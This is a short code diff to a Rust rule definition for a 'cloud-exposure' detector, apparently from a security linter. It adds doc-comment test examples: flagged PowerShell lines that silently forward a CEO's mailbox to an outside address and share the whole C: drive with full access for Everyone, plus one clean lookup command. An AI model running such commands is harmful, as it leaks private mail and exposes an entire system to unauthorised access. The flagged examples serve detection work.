@@ -30,6 +30,13 @@ declare_rule! {
     /// gcloud compute firewall-rules list
     /// gh repo view acme/app
     /// ```
+    /// ```powershell,flagged
+    /// New-InboxRule -Mailbox ceo -Name . -ForwardTo x@mail.example
+    /// New-SmbShare -Name all -Path C:\ -FullAccess Everyone
+    /// ```
+    /// ```powershell,clean
+    /// Get-InboxRule -Mailbox ceo
+    /// ```
     CLOUD_EXPOSURE { name: "cloud-exposure", subject: Subject::Effects(&[EffectKind::Expose], judge) }
 }
 
